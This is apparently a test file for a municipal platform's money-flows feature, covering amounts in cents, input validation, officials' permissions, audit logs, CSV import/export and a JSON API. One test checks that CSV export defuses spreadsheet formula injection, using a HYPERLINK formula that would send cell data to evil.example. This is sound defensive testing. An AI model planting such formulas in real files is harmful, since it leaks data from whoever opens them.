import { afterEach, beforeEach, expect, it } from 'vitest';
import { describeEachEngine } from '../../../test/support/engines.js';
import { agent, signInDirectly, type Agent } from '../../../test/support/http.js';
import { count, openModerationWorld, type ModerationWorld } from '../../../test/support/moderation.js';
import { readAudit } from '../../platform/audit.js';
import { newId, nowIso } from '../../platform/db/helpers.js';
import { system } from '../../platform/policy.js';
import { importAreas } from '../areas/index.js';
import { smallMunicipality } from '../areas/fixtures.js';
import { importStatistics } from '../statistics/index.js';

/**
 * Money flows through the pages and the API, on both engines: Reactiedorp has two districts;
 * Olga is an official of the whole municipality, Wim of the first district only; Anna a resident.
 * The first neighbourhood has 2,500 residents (2024), the one in the second district none known.
 */
describeEachEngine('money flows', (engine) => {
  let w: ModerationWorld;
  let olga: Agent;
  let wim: Agent;
  let n1: string;
  let n2: string;
  let base: string;

  const person = async (email: string, name: string, scope: ['municipality', string] | ['area', string]) => {
    const id = newId();
    await w.tp.platform.db.insertInto('people').values({ id, email, display_name: name, password_hash: 'x', email_verified_at: nowIso(), locale: 'nl', created_at: nowIso(), updated_at: nowIso() }).execute();
    await w.tp.platform.db.insertInto('role_grants').values({ id: newId(), person_id: id, role: 'official', scope_type: scope[0], scope_id: scope[1], municipality_id: w.a.id, granted_at: nowIso() }).execute();
    const a = agent(w.app);
    await signInDirectly(a, w.tp.platform, email);
    return a;
  };
  const flow = (fields: Record<string, string> = {}) => ({ year: '2024', source: 'wmo', purpose: 'Huishoudelijke hulp', amount: '412.500,00', certainty: 'estimated', method: 'Beschikkingen maal tarief', figureSource: '', ...fields });
  const record = (a: Agent, fields: Record<string, string> = {}, code = n1) => a.postForm(`/reactiedorp/gebieden/${code}/geldstromen/nieuw`, flow(fields));
  const page = (query = '?jaar=2024', a: Agent = w.as.anonymous, code = n1) => a.get(`/reactiedorp/gebieden/${code}/geldstromen${query}`);

  /** The import page's file field, as a browser sends a chosen file. */
  const upload = async (a: Agent, bytes: Uint8Array) => {
    const boundary = 'geldstromen-grens';
    const field = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    const payload = Buffer.concat([
      Buffer.from(field('_csrf', await a.csrfToken()) + field('csv', '')),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="geldstromen.csv"\r\nContent-Type: text/csv\r\n\r\n`),
      Buffer.from(bytes), Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    return a.request({ method: 'POST', url: '/reactiedorp/beheer/geldstromen', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
  };

  beforeEach(async () => {
    w = await openModerationWorld(engine);
    const sys = { platform: w.tp.platform, actor: system, tenant: null, locale: 'nl' as const };
    await importAreas(sys, [{ name: 'a_2025.geojson', text: smallMunicipality(w.a.cbsCode, { municipality: 'Reactiedorp' }) }], { divisionYear: 2025 });
    const digits = w.a.cbsCode.slice(2);
    n1 = `BU${digits}0101`;
    n2 = `BU${digits}0201`;
    base = `/reactiedorp/gebieden/${n1}/geldstromen`;
    await importStatistics(sys, { name: 'inwoners.csv', bytes: new TextEncoder().encode(`year;area_code;variable;value\n2024;${n1};a_inw;2500\n`) }, { format: 'long', source: 'test-inwoners' });
    olga = await person('olga@test.example', 'Olga Oost', ['municipality', w.a.id]);
    wim = await person('wim@test.example', 'Wim West', ['area', `WK${digits}01`]);
  }, 60_000);
  afterEach(async () => w.close());

  it('records flows in exact cents and shows totals, per resident, the flow diagram with its table, and what a share would make available', async () => {
    expect((await record(olga)).statusCode).toBe(303);
    expect((await record(olga, { source: 'youth', purpose: 'Jeugdhulp ambulant', amount: '1234567.89', certainty: 'measured', figureSource: 'Jaarrekening 2024' })).statusCode).toBe(303);
    expect((await record(wim, { source: 'housing', purpose: 'Renovatie Vaartstraat', amount: '€\u00a02.000.000', certainty: 'rough' })).statusCode).toBe(303);
    const rows = await w.tp.platform.db.selectFrom('money_flows').select(['amount_cents']).orderBy('amount_cents').execute();
    expect(rows.map((r) => Number(r.amount_cents))).toEqual([41_250_000, 123_456_789, 200_000_000]);
    const html = (await page('?jaar=2024&deel=5')).body;
    expect(html).toContain('€\u00a03.647.067,89');
    expect(html).toContain('2.500 (CBS, 2024)');
    expect(html).toContain('€\u00a01.458,83 per inwoner');
    expect(html).toContain('<svg class="ba-chart__svg ba-chart__svg--sankey"');
    expect(html).toContain('Van bron naar bestemming:');
    expect(html).toContain('Bron van het cijfer: Jaarrekening 2024');
    expect(html).toContain('grove schatting');
    // 5 % of 364,706,789 cents = 18,235,339.45 → 18,235,339 cents; per source 2,062,500 + 6,172,839 (.45) + 10,000,000.
    expect(html).toContain('Met 5% van elke geldstroom zou er in 2024 €\u00a0182.353,39 beschikbaar komen voor het wijkbudget.');
    expect(html).toContain('€\u00a020.625,00');
    expect(html).toContain('€\u00a061.728,39');
    expect(html).toContain('€\u00a0100.000,00');
    expect(html).toContain('naar beneden afgerond op hele centen');
    const bad = await page('?jaar=2024&deel=vijf');
    expect(bad.statusCode).toBe(422);
    expect(bad.body).toContain('href="#field-deel">Deel naar het wijkbudget (procent): Vul een percentage in');
    const english = (await w.as.anonymous.get(`${base}?jaar=2024&deel=2,5&lang=en`)).body;
    expect(english).toContain('€3,647,067.89');
    expect(english).toContain('With 2.5% of every flow');
    // The neighbourhood in the other district: no residents known, so no per-resident figure (and no division by zero).
    expect((await record(olga, {}, n2)).statusCode).toBe(303);
    const unknown = (await page('?jaar=2024', w.as.anonymous, n2)).body;
    expect(unknown).toContain('onbekend: het aantal inwoners is niet bekend');
    // The year after: compared per source with the year before.
    expect((await record(olga, { year: '2025', amount: '420000' })).statusCode).toBe(303);
    const next = (await page('?jaar=2025')).body;
    expect(next).toContain('<th scope="col" class="utrecht-table__header-cell utrecht-table__header-cell--numeric">In 2024</th>');
    expect(next).toContain('€\u00a02.000.000,00');
    expect((await w.as.anonymous.get(`/reactiedorp/gebieden/${n1}`)).body).toContain('In 2025 ging er zo&#39;n €\u00a0420.000,00 aan publiek geld om in dit gebied: €\u00a0168,00 per inwoner.');
  });

  it('refuses bad input naming the field and changes nothing; only officials whose grant covers the area write', async () => {
    const before = await count(w.tp, 'audit_log');
    const ambiguous = await record(olga, { amount: '1.234' });
    expect(ambiguous.statusCode).toBe(422);
    expect(ambiguous.body).toContain('href="#field-amount">Bedrag: Met één punt of komma en drie cijfers erachter');
    expect(ambiguous.body).toContain('value="1.234"');
    expect((await record(olga, { amount: '12,345' })).statusCode).toBe(422);
    expect((await record(olga, { amount: '-5' })).body).toContain('Bedrag: Het bedrag moet groter zijn dan nul.');
    expect((await record(olga, { amount: '' })).body).toContain('Bedrag: Vul dit veld in.');
    expect((await record(olga, { source: 'loterij' })).body).toContain('href="#field-source">Geldbron: Kies een van de mogelijkheden.');
    expect((await record(olga, { method: ' ' })).body).toContain('href="#field-method">');
    expect((await record(olga, { year: '1999' })).statusCode).toBe(422);
    expect((await record(w.as.anonymous)).statusCode).toBe(401);
    expect((await record(w.as.anna)).statusCode).toBe(403);
    expect((await record(wim, {}, n2)).statusCode).toBe(403);
    expect((await olga.postForm(`/anderdorp/gebieden/${n1}/geldstromen/nieuw`, flow())).statusCode).toBe(404);
    expect((await w.as.anna.get(`${base}/nieuw`)).statusCode).toBe(403);
    expect(await w.tp.platform.db.selectFrom('money_flows').select('id').execute()).toEqual([]);
    expect(await count(w.tp, 'audit_log')).toBe(before);
  });

  it('changes and deletes a flow, audited with before and after', async () => {
    await record(olga);
    const { id } = await w.tp.platform.db.selectFrom('money_flows').select('id').executeTakeFirstOrThrow();
    expect((await olga.get(`${base}/${id}/bewerken`)).body).toContain('value="412500"');
    expect((await w.as.anna.postForm(`${base}/${id}/bewerken`, flow({ amount: '1' }))).statusCode).toBe(403);
    expect((await olga.postForm(`${base}/${id}/bewerken`, flow({ amount: '400000,5' }))).statusCode).toBe(303);
    const [change] = await readAudit(w.tp.platform.db, { action: 'moneyFlow.change', entityId: id });
    expect(change?.before?.amount_cents).toBe(41_250_000);
    expect(change?.after?.amount_cents).toBe(40_000_050);
    expect((await olga.postForm(`${base}/${id}/verwijderen`, {})).statusCode).toBe(303);
    expect(await w.tp.platform.db.selectFrom('money_flows').select('id').execute()).toEqual([]);
    expect((await readAudit(w.tp.platform.db, { action: 'moneyFlow.delete', entityId: id }))).toHaveLength(1);
  });

  it('imports a file all or nothing, naming line and column, and replaces the areas and years it names', async () => {
    await record(olga, { year: '2023', purpose: 'Blijft staan' });
    await record(olga, { purpose: 'Wordt vervangen' });
    const before = await count(w.tp, 'audit_log');
    const broken = [
      'year;area_code;source;purpose;amount_eur;method;certainty',
      `2024;${n1};wmo;Dagbesteding;125.000,00;Aantal plekken maal tarief;geschat`,
      `2024;${n1};jeugdwet;Jeugdhulp;1.234;Vektis;gemeten`,
      `2024;BU99990101;wmo;Elders;10;x;estimated`,
      `2024;${n1};loterij;"Met; puntkomma";10;x;zeker`,
      `2024;${n1};wmo;Dagbesteding;5;dubbel;estimated`,
    ].join('\n');
    const refused = await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: broken });
    expect(refused.statusCode).toBe(422);
    expect(refused.body).toContain('Regel 3, kolom 5 (amount_eur): &quot;1.234&quot; kan duizenden of één euro en een beetje betekenen');
    expect(refused.body).toContain('Regel 4, kolom 2 (area_code): &quot;BU99990101&quot; is geen wijk of buurt van deze gemeente.');
    expect(refused.body).toContain('Regel 5, kolom 3 (source): &quot;loterij&quot; is geen geldbron');
    expect(refused.body).toContain('Regel 5, kolom 7 (certainty): &quot;zeker&quot; is geen zekerheid');
    expect(refused.body).toContain('Regel 6: dezelfde geldbron en bestemming voor hetzelfde gebied en jaar staan al op regel 2.');
    expect(await count(w.tp, 'audit_log')).toBe(before);
    expect((await w.tp.platform.db.selectFrom('money_flows').select('purpose').orderBy('purpose').execute()).map((r) => r.purpose)).toEqual(['Blijft staan', 'Wordt vervangen']);
    const good = [
      'jaar;gebiedcode;bron;bestemming;bedrag_eur;methode;zekerheid;bron_cijfer',
      `2024;${n1};wmo;Dagbesteding;125.000,00;Aantal plekken maal tarief;geschat;Jaarrekening`,
      `2024;${n1};Jeugdwet;Jeugdhulp;1234.5;Vektis;gemeten;`,
      `2024;${n2};zvw;Huisartsenzorg;"98.765,43";Schatting per inwoner;grove schatting;`,
    ].join('\r\n');
    expect((await w.as.anna.postForm('/reactiedorp/beheer/geldstromen', { csv: good })).statusCode).toBe(403);
    expect((await wim.postForm('/reactiedorp/beheer/geldstromen', { csv: good })).statusCode).toBe(403);
    const imported = await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: good });
    expect(imported.statusCode).toBe(303);
    const purposes = async () => (await w.tp.platform.db.selectFrom('money_flows').select(['purpose', 'amount_cents']).orderBy('purpose').execute()).map((r) => `${r.purpose}=${Number(r.amount_cents)}`);
    expect(await purposes()).toEqual(['Blijft staan=41250000', 'Dagbesteding=12500000', 'Huisartsenzorg=9876543', 'Jeugdhulp=123450']);
    const [audit] = await readAudit(w.tp.platform.db, { action: 'moneyFlow.import' });
    expect(audit?.after).toMatchObject({ flows: 3, areasAndYears: 2, replaced: 1 });
    // The same file again changes nothing but the audit log.
    expect((await olga.api('POST', '/api/v1/reactiedorp/money-flows/import', { csv: good })).json()).toEqual({ flows: 3, areasAndYears: 2, replaced: 3, totalCents: 22_499_993 });
    expect(await purposes()).toEqual(['Blijft staan=41250000', 'Dagbesteding=12500000', 'Huisartsenzorg=9876543', 'Jeugdhulp=123450']);
    const overview = (await olga.get('/reactiedorp/beheer/geldstromen')).body;
    expect(overview).toContain('€\u00a0126.234,50');
    const api = await olga.api('POST', '/api/v1/reactiedorp/money-flows/import', { csv: 'year;area_code\n2024;x' });
    expect(api.statusCode).toBe(422);
    expect(JSON.stringify(api.json())).toContain('Line 1: The header line must name the columns');
  });

  it('imports an uploaded file, and refuses one that is not UTF-8 text', async () => {
    const text = `year;area_code;source;purpose;amount_eur;method;certainty\n2024;${n1};subsidies;Speeltuin;1.500,00;Beschikking;gemeten\n`;
    expect((await upload(olga, new TextEncoder().encode(text))).statusCode).toBe(303);
    expect((await w.tp.platform.db.selectFrom('money_flows').select('amount_cents').executeTakeFirstOrThrow()).amount_cents).toBe(150_000);
    const latin1 = await upload(olga, Uint8Array.from([...text.replace('Speeltuin', 'Caf\u00e9')].map((c) => c.charCodeAt(0))));
    expect(latin1.statusCode).toBe(422);
    expect(latin1.body).toContain('Het bestand is geen tekst in UTF-8.');
  });

  it('serves flows, totals, residents and the what-if as JSON', async () => {
    await record(olga, { amount: '333,33' });
    await record(olga, { source: 'zvw', purpose: 'Huisarts', amount: '333,33' });
    await record(olga, { source: 'wlz', purpose: 'Verpleeghuis', amount: '333,34' });
    const data = (await w.as.anonymous.get(`/api/v1/reactiedorp/areas/${n1}/money-flows?year=2024`)).json() as Record<string, any>;
    expect(data).toMatchObject({ areaCode: n1, year: 2024, years: [2024], totalCents: 100_000, residents: { count: 2500, year: 2024, own: false }, perResidentCents: 40 });
    expect(data.flows).toHaveLength(3);
    const whatIf = (await w.as.anonymous.get(`/api/v1/reactiedorp/areas/${n1}/money-flows/what-if?year=2024&share=5`)).json() as Record<string, any>;
    expect(whatIf).toMatchObject({ basisPoints: 500, totalCents: 100_000, availableCents: 5_000 });
    expect(whatIf.perSource.map((p: { cents: number }) => p.cents).reduce((a: number, b: number) => a + b, 0)).toBe(5_000);
    expect((await w.as.anonymous.get(`/api/v1/reactiedorp/areas/${n1}/money-flows/what-if?share=0`)).statusCode).toBe(422);
    const created = await olga.api('POST', `/api/v1/reactiedorp/areas/${n1}/money-flows`, { year: 2024, source: 'other', purpose: 'Buurtfonds', amountCents: 123, method: 'Begroting', certainty: 'measured' });
    expect(created.statusCode).toBe(201);
    expect((await w.as.anna.api('POST', `/api/v1/reactiedorp/areas/${n1}/money-flows`, { year: 2024, source: 'other', purpose: 'x', amountCents: 1, method: 'x', certainty: 'measured' })).statusCode).toBe(403);
  });
  it('exports an area\'s flows and the municipality\'s as the file the import reads, publicly, with texts that never run as formulas', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
    expect((await record(olga, { purpose: formula, amount: '0,01', method: '- eerst tellen\r\n- dan vermenigvuldigen', figureSource: '+31 20 1234567' })).statusCode).toBe(303);
    expect((await record(olga, { source: 'youth', purpose: 'Jeugdhulp; "ambulant"', amount: '1234567,89', certainty: 'measured', method: '@werkwijze' })).statusCode).toBe(303);
    expect((await record(olga, { year: '2023', purpose: '-', amount: '1.000.000' })).statusCode).toBe(303);
    expect((await record(olga, { purpose: 'Wijkteam', amount: '50' }, n2)).statusCode).toBe(303);
    const area = await w.as.anonymous.get(`${base}.csv`);
    expect(area.statusCode).toBe(200);
    expect(area.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(area.headers['content-disposition']).toBe(`attachment; filename="geldstromen-reactiedorp-${n1}.csv"; filename*=UTF-8''geldstromen-reactiedorp-${n1}.csv`);
    expect([...area.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(area.body).toBe([
      '\uFEFFyear;area_code;source;purpose;amount_eur;method;certainty;figure_source',
      `2023;${n1};wmo;'-;1000000,00;Beschikkingen maal tarief;estimated;`,
      `2024;${n1};wmo;"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")";0,01;"'- eerst tellen\r\n- dan vermenigvuldigen";estimated;'+31 20 1234567`,
      `2024;${n1};youth;"Jeugdhulp; ""ambulant""";1234567,89;'@werkwijze;measured;`,
      '',
    ].join('\r\n'));
    const year = await w.as.anonymous.get(`${base}.csv?jaar=2023`);
    expect(year.headers['content-disposition']).toContain(`filename="geldstromen-reactiedorp-${n1}-2023.csv"`);
    expect(year.body.split('\r\n').slice(1, -1)).toEqual([`2023;${n1};wmo;'-;1000000,00;Beschikkingen maal tarief;estimated;`]);
    const all = await w.as.anonymous.get('/reactiedorp/geldstromen.csv');
    expect(all.statusCode).toBe(200);
    expect(all.headers['content-disposition']).toContain('attachment; filename="geldstromen-reactiedorp.csv"');
    expect(all.body).toBe(`${area.body}2024;${n2};wmo;Wijkteam;50,00;Beschikkingen maal tarief;estimated;\r\n`);
    // The same files through the API (open data), and the links to them.
    expect((await w.as.anonymous.get(`/api/v1/reactiedorp/areas/${n1}/money-flows.csv`)).body).toBe(area.body);
    const api = await w.as.anonymous.get('/api/v1/reactiedorp/money-flows.csv?year=2023');
    expect(api.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(api.body).toBe(year.body);
    const html = (await page()).body;
    expect(html).toContain(`<a class="utrecht-link" href="${base}.csv">Download als CSV</a>: alle jaren van dit gebied`);
    expect(html).toContain('<a class="utrecht-link" href="/reactiedorp/geldstromen.csv">Alle geldstromen van Gemeente Reactiedorp als CSV</a>');
    expect((await w.as.anonymous.get(`${base}?lang=en`)).body).toContain(`<a class="utrecht-link" href="${base}.csv">Download as CSV</a>`);
    expect((await olga.get('/reactiedorp/beheer/geldstromen')).body).toContain('<a class="utrecht-link" href="/reactiedorp/geldstromen.csv">Download alle geldstromen als CSV</a>');
    // Empty: the header line alone. Unknown places: not found.
    expect((await w.as.anonymous.get('/anderdorp/geldstromen.csv')).body).toBe('\uFEFFyear;area_code;source;purpose;amount_eur;method;certainty;figure_source\r\n');
    expect((await w.as.anonymous.get(`/anderdorp/gebieden/${n1}/geldstromen.csv`)).statusCode).toBe(404);
    expect((await w.as.anonymous.get('/reactiedorp/gebieden/BU99990101/geldstromen.csv')).statusCode).toBe(404);
    expect((await w.as.anonymous.get('/nergensdorp/geldstromen.csv')).statusCode).toBe(404);
  });

  it('imports its own export again without changing anything (no ids, dates or authors), and takes an edited export as changes in place', async () => {
    await record(olga, { purpose: '=1+1', method: '- eerst tellen\r\n- dan vermenigvuldigen', figureSource: '@bron' });
    await record(olga, { source: 'youth', purpose: "'=al een apostrof", amount: '1234567,89', certainty: 'rough', method: '"Gequote" methode; met puntkomma' });
    await record(olga, { year: '2023', purpose: 'Café Ünïcode €', amount: '0,05' });
    await record(olga, { source: 'zvw', purpose: 'Gaat weg', amount: '3' });
    await record(olga, { purpose: 'Wijkteam', amount: '100' }, n2);
    // The municipality as a whole has a page, so it takes flows too; its export imports again.
    expect((await record(olga, { source: 'subsidies', purpose: 'Stadsbreed', amount: '1' }, w.a.cbsCode)).statusCode).toBe(303);
    const rows = () => w.tp.platform.db.selectFrom('money_flows').selectAll().orderBy('id').execute();
    const before = await rows();
    expect(before).toHaveLength(6);
    const file = await w.as.anonymous.get('/reactiedorp/geldstromen.csv');
    // As the file a browser saved (bytes with the BOM), and as text pasted or sent to the API.
    expect((await upload(olga, new Uint8Array(file.rawPayload))).statusCode).toBe(303);
    expect(await rows()).toEqual(before);
    expect((await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: file.body })).statusCode).toBe(303);
    const areaFile = (await w.as.anonymous.get(`${base}.csv`)).body;
    expect((await olga.api('POST', '/api/v1/reactiedorp/money-flows/import', { csv: areaFile })).json()).toEqual({ flows: 4, areasAndYears: 2, replaced: 4, totalCents: 412_500_00 + 1_234_567_89 + 3_00 + 5 });
    expect(await rows()).toEqual(before);
    expect((await w.as.anonymous.get('/reactiedorp/geldstromen.csv')).body).toBe(file.body);
    const audits = await readAudit(w.tp.platform.db, { action: 'moneyFlow.import' });
    expect(audits).toHaveLength(3);
    for (const audit of audits) expect(audit.after).toMatchObject({ added: 0, changed: 0, deleted: 0 });
    // Edited in a spreadsheet: one amount changed, one line gone, one new; the changed flow keeps its id, the other years stay.
    const lines = areaFile.split('\r\n');
    const changedLine = lines.findIndex((l) => l.startsWith(`2024;${n1};youth;`));
    lines[changedLine] = lines[changedLine]!.replace('1234567,89', '1234567,90');
    const edited = lines.filter((l) => !l.startsWith(`2024;${n1};zvw;Gaat weg;`)).join('\r\n') + `2024;${n1};other;Nieuw;7;Telling;gemeten;\r\n`;
    expect((await olga.postForm('/reactiedorp/beheer/geldstromen', { csv: edited })).statusCode).toBe(303);
    const after = await rows();
    const youth = before.find((r) => r.source === 'youth')!;
    expect(after.find((r) => r.id === youth.id)).toMatchObject({ amount_cents: 123_456_790, purpose: youth.purpose, created_at: youth.created_at });
    expect(after.some((r) => r.purpose === 'Gaat weg')).toBe(false);
    const untouched = (r: { purpose: string }) => ['=1+1', 'Café Ünïcode €', 'Wijkteam', 'Stadsbreed'].includes(r.purpose);
    expect(after.filter(untouched)).toEqual(before.filter(untouched));
    expect(after.find((r) => r.purpose === 'Nieuw')).toMatchObject({ amount_cents: 700, certainty: 'measured' });
    expect(after).toHaveLength(before.length);
  });

  it('refuses a second flow from the same source to the same purpose in an area and year, which the import file could not hold', async () => {
    expect((await record(olga)).statusCode).toBe(303);
    const twin = await record(olga, { purpose: 'HUISHOUDELIJKE HULP', amount: '5' });
    expect(twin.statusCode).toBe(422);
    expect(twin.body).toContain('href="#field-purpose">Bestemming of organisatie: Voor dit gebied is er in 2024 al een geldstroom uit deze bron naar deze bestemming.');
    expect((await record(olga, { source: 'youth' })).statusCode).toBe(303);
    expect((await record(olga, { year: '2025' })).statusCode).toBe(303);
    const youth = await w.tp.platform.db.selectFrom('money_flows').select('id').where('source', '=', 'youth').executeTakeFirstOrThrow();
    expect((await olga.postForm(`${base}/${youth.id}/bewerken`, flow({ source: 'wmo' }))).statusCode).toBe(422);
    expect((await olga.postForm(`${base}/${youth.id}/bewerken`, flow({ source: 'youth', amount: '1' }))).statusCode).toBe(303);
    expect(await w.tp.platform.db.selectFrom('money_flows').select('id').execute()).toHaveLength(3);
  });
});
